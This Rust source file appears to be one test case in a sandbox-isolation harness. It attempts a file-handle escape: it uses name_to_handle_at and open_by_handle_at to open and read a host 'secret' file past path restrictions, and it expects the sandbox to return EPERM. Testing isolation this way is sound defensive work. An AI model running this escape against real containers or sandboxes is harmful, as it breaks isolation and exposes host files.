//! Opens a file of the host by a handle, past every path.

use std::os::fd::AsRawFd;

use super::super::attack::{Loot, Scene, at, bytes, call, io, own, text};
use super::super::world::World;
use super::{Attempt, Control, EPERM};

pub(super) const ATTEMPT: Attempt = Attempt {
    control: Control::Root,
    stage: World::keep_secret,
    attack,
    seen: World::secret_was_got,
    inside: &[("*", EPERM)],
};

fn attack(scene: &Scene) -> Loot {
    let path = text(&scene.host("secret"));
    let mut handle = [0u8; 136];
    handle[0] = 128;
    let mount = 0i32;
    let mut named = call(
        libc::SYS_name_to_handle_at,
        &[
            libc::AT_FDCWD.into(),
            path.as_ptr() as i64,
            at(&handle),
            at(&mount),
            0,
        ],
    )
    .map(drop);
    let root = io(std::fs::File::open(&scene.tmp))?;
    if named.is_err() {
        // Inside there is no such path: guess a handle.
        named = Ok(());
    }
    named?;
    let file = call(
        libc::SYS_open_by_handle_at,
        &[root.as_raw_fd().into(), at(&handle), 0],
    )?;
    let file = std::fs::File::from(own(file));
    let mut all = Vec::new();
    io(std::io::Read::read_to_end(&mut &file, &mut all))?;
    bytes(all)
}
